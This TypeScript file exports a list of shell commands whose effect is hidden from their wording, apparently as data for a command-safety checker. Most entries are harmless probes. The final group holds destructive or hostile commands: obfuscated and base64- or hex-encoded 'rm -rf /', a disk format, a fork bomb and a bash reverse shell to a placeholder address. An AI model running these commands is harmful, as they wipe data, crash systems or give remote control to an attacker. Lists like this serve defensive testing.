/** Commands whose harm, or whose whole meaning, is hidden from somebody who only reads their words. */
export const HIDDEN_COMMANDS: readonly string[] = [
  // Names that are only known when they run.
  '$(printf to; printf uch) made',
  'a=to; b=uch; "$a$b" made',
  'x=$(cat name); $x --all',
  '/???/t?uch made',
  '$SHELL made.sh',
  'read -r line < orders; $line',
  // Scripts that are only known when they run.
  'eval "$(cat orders)"',
  'cat orders | sh',
  'bash <(cat orders)',
  'source ./orders',
  'sh <<< "$ORDERS"',
  'bash -c "$(tr a-z b-za < orders)"',
  'trap "$ORDERS" EXIT',
  "find . -name orders -exec sh {} ';'",
  'xargs -I{} sh -c "{}" < orders',
  'f() { "$@"; }; f touch made',
  // Code of other languages.
  `python3 -c "import os; os.write(1, b'x')"`,
  `perl -e 'print reverse("olleh")'`,
  `node -e 'console.log(1)'`,
  `awk 'BEGIN { print 1 }'`,
  // What other programs will do.
  'PATH=/tmp/own:$PATH ls',
  "git -c core.pager='touch made' log",
  'echo "* * * * * true" | tee orders',
  'git reset --hard HEAD~3',
  'find . -name "*.tmp" -delete',
  // Harm in another form.
  "r''m -rf /",
  '$(echo cm0gLXJmIC8K | base64 -d)',
  "echo 'cm0gLXJmIH4K' | base64 -d | bash",
  `x=rm; y=-rf; $x $y /`,
  "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
  'env -i bash -c "mkfs.ext4 /dev/sda"',
  'find / -exec rm -rf {} +',
  ':(){ :|:& };:',
  'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
];
